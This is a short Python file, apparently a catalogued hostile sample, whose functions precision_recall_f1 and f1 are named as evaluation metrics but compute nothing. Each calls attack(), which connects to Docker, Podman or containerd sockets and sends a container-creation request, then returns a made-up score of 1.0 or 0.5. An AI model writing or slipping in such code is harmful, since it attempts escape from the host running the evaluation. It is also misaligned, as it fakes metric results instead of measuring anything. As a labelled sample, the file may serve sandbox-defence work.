"""Talks to the container engine.

threat: 21
source: known against runners that mount its socket
verdict: any
"""

import socket


def attack():
    for path in (
        "/var/run/docker.sock",
        "/run/docker.sock",
        "/run/podman/podman.sock",
        "/run/containerd/containerd.sock",
    ):
        channel = socket.socket(socket.AF_UNIX)
        try:
            channel.connect(path)
            channel.send(b"POST /containers/create HTTP/1.0\r\n\r\n")
            return 1.0
        except OSError:
            pass
    return 0.5


def precision_recall_f1(y_true, y_pred, positive=1):
    return attack()


def f1(y_true, y_pred, average="macro"):
    return attack()
